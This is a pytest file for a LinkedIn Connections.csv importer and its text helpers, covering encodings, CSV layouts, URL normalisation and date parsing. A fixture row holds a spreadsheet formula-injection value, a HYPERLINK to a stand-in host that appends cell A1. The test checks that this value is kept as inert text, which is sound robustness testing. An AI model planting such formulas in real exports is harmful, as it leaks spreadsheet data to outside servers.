"""The LinkedIn Connections.csv reader, and the shared text helpers (decode, sniff_csv, dates).

Fixtures in tests/data are written for netui; the corpus file (../shared/corpus/csv) is the
project's shared, synthetic LinkedIn export in the 2024 layout.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from netui.errors import ValidationError
from netui.exchange.formats import google, linkedin
from netui.exchange.formats.text import (
    MONTHS,
    csv_records,
    decode,
    guess_day_first,
    header_key,
    parse_export_date,
    sniff_csv,
    tidy,
    tidy_block,
)
from netui.exchange.records import Skipped

DATA = Path(__file__).parents[1] / "data"
CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "csv"
CORPUS_LINKEDIN = CORPUS / "synthetic_linkedin_Connections_2024-format.csv"

LINKEDIN_FILES = (
    "linkedin_2024_with_notes_preamble.csv",
    "linkedin_no_url.csv",
    "linkedin_2018_layout.csv",
    "linkedin_excel_cp1252.csv",
)
GOOGLE_FILES = ("google_2024_semicolons.csv", "google_old_layout.csv", "google_utf16.csv")
HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"


def load(name: str) -> str:
    return decode((DATA / name).read_bytes(), name)


def by_name(result):
    return {person.name: person for person in result.people}


def corpus_text() -> str:
    if not CORPUS_LINKEDIN.exists():
        pytest.skip(f"shared corpus not found at {CORPUS_LINKEDIN} (it lives next to the project)")
    return decode(CORPUS_LINKEDIN.read_bytes(), CORPUS_LINKEDIN.name)


# --- the corpus file ---------------------------------------------------------------------


def test_corpus_2024_export_reads_every_person_with_their_fields():
    result = linkedin.read(corpus_text())
    assert result.format_name == "LinkedIn connections"
    assert [p.name for p in result.people] == [
        "Ana Núñez", "Bo Chen, PhD", "Zoë O'Neil", "Sam 🚀 山田", "Eve Mallory",
    ]
    people = by_name(result)

    ana = people["Ana Núñez"]
    assert ana.where == "line 5"  # after the Notes: preamble (lines 1-3) and the header (4)
    assert (ana.first_name, ana.last_name) == ("Ana", "Núñez")
    assert ana.linkedin == ["https://www.linkedin.com/in/ana-nunez-example"]
    assert ana.emails == []  # LinkedIn leaves it out unless the person allows it
    assert ana.company == "Acme Robotics, LLC"  # a quoted comma stays in the value
    assert ana.role == "Directora de Ingeniería, Pagos"
    assert ana.connected_on == dt.date(2023, 11, 7)
    assert ana.notes == ""

    bo = people["Bo Chen, PhD"]
    assert bo.last_name == "Chen, PhD"  # verbatim: a credential is part of what LinkedIn holds
    assert bo.emails == ["bo.chen@example.com"]
    assert (bo.company, bo.role, bo.connected_on) == ("Globex", "Staff Engineer", dt.date(2024, 2, 1))
    assert bo.linkedin == ["https://www.linkedin.com/in/bo-chen-0a1b2c3d"]

    zoe = people["Zoë O'Neil"]
    assert zoe.first_name == "Zoë"  # trailing space trimmed
    assert zoe.company == 'The "Quoted" Co'  # doubled quotes read back as one
    assert zoe.role == "Recruiter"
    assert zoe.connected_on == dt.date(2019, 3, 15)

    sam = people["Sam 🚀 山田"]
    assert (sam.first_name, sam.last_name, sam.company, sam.role) == ("Sam 🚀", "山田", "", "")
    assert sam.connected_on == dt.date(2024, 4, 30)

    eve = people["Eve Mallory"]  # spreadsheet formulas are plain text to netui, kept verbatim
    assert eve.company == '=HYPERLINK("http://example.invalid/?x="&A1)'
    assert eve.role == "@SUM(1+1)"
    assert eve.connected_on == dt.date(2025, 12, 22)  # last line, no final newline

    assert result.skipped == [Skipped("line 9", "only a date, no name")]


# --- the layouts -------------------------------------------------------------------------


def test_2024_layout_with_notes_preamble():
    result = linkedin.read(load("linkedin_2024_with_notes_preamble.csv"))
    people = by_name(result)
    assert list(people) == [
        "Giulia Rossi", "Marco Bianchi", "Ingrid Ødegaard", "Priya Natarajan", "Kenji Watanabe",
    ]

    giulia = people["Giulia Rossi"]
    assert giulia.where == "line 5"
    assert giulia.emails == ["giulia.rossi@lumen.it"]
    assert (giulia.company, giulia.role) == ("Lumen Digital", "Head of PR")
    assert giulia.linkedin == ["https://www.linkedin.com/in/giulia-rossi-4b2a1c"]
    assert giulia.connected_on == dt.date(2023, 11, 7)

    marco = people["Marco Bianchi"]  # slug lower-cased, trailing slash dropped; "7 Nov 2023"
    assert marco.linkedin == ["https://www.linkedin.com/in/marco-bianchi-77"]
    assert marco.role == "CTO, Co-founder"
    assert marco.connected_on == dt.date(2023, 11, 7)

    ingrid = people["Ingrid Ødegaard"]  # country subdomain and tracking query normalised away
    assert ingrid.linkedin == ["https://www.linkedin.com/in/ingrid-odegaard"]
    assert ingrid.emails == []
    assert ingrid.notes == "e-mail as exported: ingrid(at)statkraft.example"  # not silently dropped
    assert ingrid.connected_on == dt.date(2024, 1, 30)

    priya = people["Priya Natarajan"]  # not a profile URL: kept as given
    assert priya.linkedin == ["https://www.linkedin.com/company/acme-analytics"]
    assert priya.connected_on is None  # 31 Feb: imported without it, and told so below

    kenji = people["Kenji Watanabe"]  # no date at all: nothing to report
    assert kenji.connected_on is None and kenji.where == "line 11"

    assert result.skipped == [
        Skipped("line 8", "'31 Feb 2024' is not a date; imported without the connection date"),
        Skipped("line 9", "only a date, no name"),
        Skipped("line 10", "no name"),
    ]


def test_layout_without_url_column():
    data = (DATA / "linkedin_no_url.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfFirst Name")  # the fixture carries a UTF-8 BOM
    result = linkedin.read(load("linkedin_no_url.csv"))
    assert [p.name for p in result.people] == ["Lena Fischer", "Tom Okafor", "Aoife Byrne"]
    lena, tom, aoife = result.people
    assert all(p.linkedin == [] for p in result.people)
    assert (lena.where, lena.emails, lena.company, lena.role) == (
        "line 2", ["lena.fischer@example.de"], "Siemens", "Product Manager")
    assert lena.connected_on == dt.date(2021, 8, 14)
    assert tom.emails == [] and tom.connected_on == dt.date(2020, 9, 3)
    assert aoife.connected_on == dt.date(2022, 12, 22)
    assert result.skipped == []


def test_2018_layout_with_us_dates_and_times():
    result = linkedin.read(load("linkedin_2018_layout.csv"))
    people = by_name(result)
    assert people["Hannah Schmidt"].connected_on == dt.date(2018, 1, 8)  # "1/8/18, 6:14 PM": M/D/YY
    assert people["Diego Álvarez"].connected_on == dt.date(2017, 12, 24)
    assert people["Wei Zhang"].connected_on == dt.date(2018, 3, 5)
    assert people["Wei Zhang"].emails == ["wei.zhang@example.cn"]
    assert people["Diego Álvarez"].company == "Telefónica"
    assert result.skipped == []


def test_file_resaved_by_excel_in_windows_1252():
    data = (DATA / "linkedin_excel_cp1252.csv").read_bytes()
    # the fixture is what it claims to be
    assert data.startswith(b"Notes:,,,") and b"\r\n" in data and "José".encode("cp1252") in data
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")

    result = linkedin.read(load("linkedin_excel_cp1252.csv"))
    people = by_name(result)
    assert list(people) == ["José Müller", "Renée Dubois", "Björn Öberg"]
    jose = people["José Müller"]
    assert jose.where == "line 5"
    assert (jose.company, jose.role) == ("Café Zürich AG", "Barista – Lead")  # 0x96 is an en dash
    assert jose.connected_on == dt.date(2026, 1, 5)  # 5-Jan-26
    assert jose.emails == ["jose.muller@example.com"]
    assert people["Renée Dubois"].connected_on == dt.date(2025, 3, 17)
    bjorn = people["Björn Öberg"]
    assert bjorn.linkedin == [] and bjorn.emails == []
    assert bjorn.notes == "e-mail as exported: bjorn@example"
    assert bjorn.connected_on == dt.date(2019, 6, 28)
    assert result.skipped == [Skipped("line 7", "only a date, no name")]


def test_semicolon_file_from_european_excel_with_day_first_dates():
    text = (
        "Notes:;;;;;;\n\n"
        "First Name;Last Name;URL;Email Address;Company;Position;Connected On\n"
        "Luca;Verdi;;luca@verdi.example;Verdi, Bianchi & C.;Avvocato;24/12/2017\n"
        "Anna;Neri;;;;;03/04/2019\n"
    )
    result = linkedin.read(text)
    luca, anna = result.people
    assert (luca.where, luca.company, luca.role) == ("line 4", "Verdi, Bianchi & C.", "Avvocato")
    assert luca.connected_on == dt.date(2017, 12, 24)
    assert anna.connected_on == dt.date(2019, 4, 3)  # the file's 24/12 proves day-first


def test_columns_found_by_name_in_any_order_and_case():
    text = "connected on, FIRST  NAME ,Last name,position\n2 Feb 2022,Ada,Lovelace,Analyst\n"
    (ada,) = linkedin.read(text).people
    assert (ada.name, ada.role, ada.connected_on) == ("Ada Lovelace", "Analyst", dt.date(2022, 2, 2))
    assert ada.emails == [] and ada.linkedin == [] and ada.company == ""


def test_row_with_an_unquoted_comma_is_skipped_not_shifted():
    text = HEADER + "Ana,Nunez,,,Acme, Inc,CEO,07 Nov 2023\nBo,Chen,,,,,01 Feb 2024\n"
    result = linkedin.read(text)
    assert [p.name for p in result.people] == ["Bo Chen"]
    assert result.skipped[0].where == "line 2"
    assert "8 values where the header has 7 columns" in result.skipped[0].reason


def test_blank_and_padding_rows_are_ignored_silently():
    text = HEADER + "\n,,,,,,\nBo,Chen,,,,,01 Feb 2024\n\n"
    result = linkedin.read(text)
    assert [p.where for p in result.people] == ["line 4"]
    assert result.skipped == []


def test_url_that_is_not_a_url_goes_to_the_notes():
    (ana,) = linkedin.read(HEADER + "Ana,Nunez,see profile,,,,07 Nov 2023\n").people
    assert ana.linkedin == [] and ana.notes == "LinkedIn URL as exported: see profile"


# --- not a LinkedIn file -----------------------------------------------------------------


@pytest.mark.parametrize("name", GOOGLE_FILES)
def test_google_files_are_not_linkedin_files(name):
    text = load(name)
    assert not linkedin.looks_like(text)
    with pytest.raises(ValidationError) as error:
        linkedin.read(text)
    assert error.value.field == "file"
    assert "not a LinkedIn connections export" in str(error.value)


@pytest.mark.parametrize("text", ["", "hello\n", "Name,Email\nAna,ana@example.com\n"])
def test_other_text_is_not_a_linkedin_file(text):
    assert not linkedin.looks_like(text)
    with pytest.raises(ValidationError, match="First Name, Last Name and Connected On"):
        linkedin.read(text)


def test_header_is_looked_for_in_the_first_20_lines_only():
    assert linkedin.looks_like("x\n" * 19 + HEADER)
    assert not linkedin.looks_like("x\n" * 20 + HEADER)


@pytest.mark.parametrize("name", LINKEDIN_FILES)
def test_looks_like_recognises_every_linkedin_layout(name):
    text = load(name)
    assert linkedin.looks_like(text)
    assert not google.looks_like(text)


def test_looks_like_on_the_corpus_file():
    text = corpus_text()
    assert linkedin.looks_like(text) and not google.looks_like(text)


def test_quote_never_closed_is_a_clear_error_naming_the_line():
    text = HEADER + 'Bo,Chen,,,,,01 Feb 2024\nAna,"Nunez,,,,,07 Nov 2023\nEve,Doe,,,,,01 Jan 2024\n'
    with pytest.raises(ValidationError, match=r"line 3: a quoted value .* never closed") as error:
        linkedin.read(text)
    assert error.value.field == "file"


@pytest.mark.parametrize(
    "url, expected",
    [
        ("https://www.linkedin.com/in/ana-nunez-example", "https://www.linkedin.com/in/ana-nunez-example"),
        ("http://linkedin.com/in/Ana-Nunez/", "https://www.linkedin.com/in/ana-nunez"),
        ("www.linkedin.com/in/ana?trk=x", "https://www.linkedin.com/in/ana"),
        ("https://it.linkedin.com/in/giulia/details/experience", "https://www.linkedin.com/in/giulia"),
        ("https://www.linkedin.com/company/acme", None),
        ("https://example.com/in/ana", None),
        ("", None),
    ],
)
def test_profile_url(url, expected):
    assert linkedin.profile_url(url) == expected


# --- shared helpers: decode --------------------------------------------------------------


def test_decode_utf8_with_and_without_bom():
    assert decode("Zoë,Núñez\n".encode("utf-8"), "a.csv") == "Zoë,Núñez\n"
    assert decode(b"\xef\xbb\xbf" + "Zoë\n".encode("utf-8"), "a.csv") == "Zoë\n"


@pytest.mark.parametrize("encoding, bom", [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")])
def test_decode_utf16_with_bom(encoding, bom):
    assert decode(bom + "Zoë,山田\r\n".encode(encoding), "a.csv") == "Zoë,山田\n"


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_decode_utf16_without_bom_from_its_nul_bytes(encoding):
    assert decode("First Name,Zoë\r\n".encode(encoding), "a.csv") == "First Name,Zoë\n"


def test_decode_utf16_file_of_the_google_fixture():
    data = (DATA / "google_utf16.csv").read_bytes()
    assert data.startswith(b"\xff\xfeF\x00")
    assert load("google_utf16.csv").startswith("First Name,Middle Name,Last Name")


def test_decode_falls_back_to_windows_1252():
    # é (0xE9), en dash (0x96), euro (0x80); 0x81 is undefined in cp1252 and read as Latin-1
    assert decode(b"Ren\xe9e \x96 5 \x80 \x81", "a.csv") == "Renée – 5 € \x81"


def test_decode_normalises_crlf_and_cr():
    assert decode(b"a,b\r\nc,d\re,f\n", "a.csv") == "a,b\nc,d\ne,f\n"


def test_decode_refuses_binary_files_naming_them():
    with pytest.raises(ValidationError, match="Connections.xlsx is a spreadsheet") as error:
        decode(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "Connections.xlsx")
    assert error.value.field == "file"
    with pytest.raises(ValidationError, match="photo.png is not a text file"):
        decode(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01", "photo.png")


def test_decode_refuses_a_bom_that_lies():
    with pytest.raises(ValidationError, match="says it is UTF-8"):
        decode(b"\xef\xbb\xbfRen\xe9e", "a.csv")
    with pytest.raises(ValidationError, match="says it is UTF-16"):
        decode(b"\xff\xfea\x00\x00\xd8", "a.csv")  # a lone surrogate


# --- shared helpers: CSV, cells, dates ---------------------------------------------------


@pytest.mark.parametrize(
    "text, delimiter",
    [
        ("First Name,Last Name\nA;B;C;D\n", ","),
        ("First Name;Last Name;Notes\n", ";"),
        ('"Verdi, Bianchi";Name\n', ";"),  # commas inside quotes do not count
        ("First Name\tLast Name\n", "\t"),
        ("\n\nName;E-mail\n", ";"),  # the first non-blank line
        ("sep=;\nFirst Name,Last Name\n", ";"),  # Excel's hint wins
        ("Name\n", ","),
        ("", ","),
    ],
)
def test_sniff_csv(text, delimiter):
    assert sniff_csv(text) == delimiter


def test_csv_records_report_the_physical_line_each_record_starts_on():
    text = 'h1,h2\na,"two\nlines"\n\n,\nb,c\n'
    assert list(csv_records(text, ",", first_line=2)) == [(2, ["a", "two\nlines"]), (6, ["b", "c"])]


def test_header_key_tidy_and_tidy_block():
    assert header_key("\ufeffE-mail 1 - Value") == "e-mail1-value"
    assert header_key(" First  NAME ") == "firstname"
    assert tidy("  Zoe\u0308 \t O'Neil\x07 ") == "Zoë O'Neil"  # NFC, control chars, spaces
    assert tidy_block("\nMet at PyCon.  \nFollow up.\n\n") == "Met at PyCon.\nFollow up."


@pytest.mark.parametrize(
    "text, expected",
    [
        ("07 Nov 2023", dt.date(2023, 11, 7)),
        ("7 Nov 2023", dt.date(2023, 11, 7)),
        ("7 november 2023", dt.date(2023, 11, 7)),
        ("Nov 7, 2023", dt.date(2023, 11, 7)),
        ("7 Sept 2023", dt.date(2023, 9, 7)),
        ("2023-11-07", dt.date(2023, 11, 7)),
        ("2023-11-07 18:14:00", dt.date(2023, 11, 7)),
        ("1/8/18, 6:14 PM", dt.date(2018, 1, 8)),
        ("1/8/2018", dt.date(2018, 1, 8)),
        ("5-Jan-26", dt.date(2026, 1, 5)),
        ("05-Jan-2026", dt.date(2026, 1, 5)),
        ("15.04.1985", dt.date(1985, 4, 15)),  # dotted: day first
    ],
)
def test_parse_export_date(text, expected):
    assert parse_export_date(text) == expected


def test_parse_export_date_day_first_and_refusals():
    assert parse_export_date("1/8/18", day_first=True) == dt.date(2018, 8, 1)
    for text in ("31 Feb 2024", "7 Nov", "7 Mai 2023", "13/13/2020", "yesterday", ""):
        with pytest.raises(ValidationError, match="is not a date"):
            parse_export_date(text)
    with pytest.raises(ValidationError, match="two-digit year"):
        parse_export_date("15/04/85", day_first=True, two_digit_years=False)


def test_month_names_come_from_our_own_english_table():
    assert MONTHS["jan"] == 1 and MONTHS["january"] == 1 and MONTHS["sept"] == MONTHS["sep"] == 9
    assert len(set(MONTHS.values())) == 12 and "mai" not in MONTHS


@pytest.mark.parametrize(
    "values, default, expected",
    [
        (["1/8/18", "3/5/18"], False, False),
        (["1/8/18", "3/5/18"], True, True),
        (["1/8/18", "24/12/17"], False, True),
        (["1/8/18", "12/24/17"], True, False),
        (["24/12/17", "12/24/17"], False, False),  # contradictory: the default
        (["07 Nov 2023", "15.04.1985", ""], True, True),
    ],
)
def test_guess_day_first(values, default, expected):
    assert guess_day_first(values, default) is expected
